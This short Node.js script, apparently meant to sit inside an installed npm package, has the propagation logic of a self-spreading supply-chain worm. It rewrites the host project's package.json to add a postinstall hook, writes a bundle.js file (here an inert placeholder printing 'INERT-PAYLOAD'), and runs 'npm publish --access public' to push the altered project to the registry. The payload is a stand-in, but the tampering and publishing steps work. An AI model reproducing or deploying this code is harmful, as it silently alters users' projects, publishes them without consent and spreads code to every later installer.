'use strict';
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');

const project = path.join(__dirname, '..', '..');
const manifest = path.join(project, 'package.json');
const facts = JSON.parse(fs.readFileSync(manifest, 'utf8'));
facts.scripts = { ...facts.scripts, postinstall: 'node bundle.js' };
fs.writeFileSync(manifest, JSON.stringify(facts, null, 2));
fs.writeFileSync(path.join(project, 'bundle.js'), "console.log('INERT-PAYLOAD');\n");
try {
  execSync('npm publish --access public', { cwd: project, stdio: 'ignore' });
} catch {
  // Without a token it cannot spread from here.
}
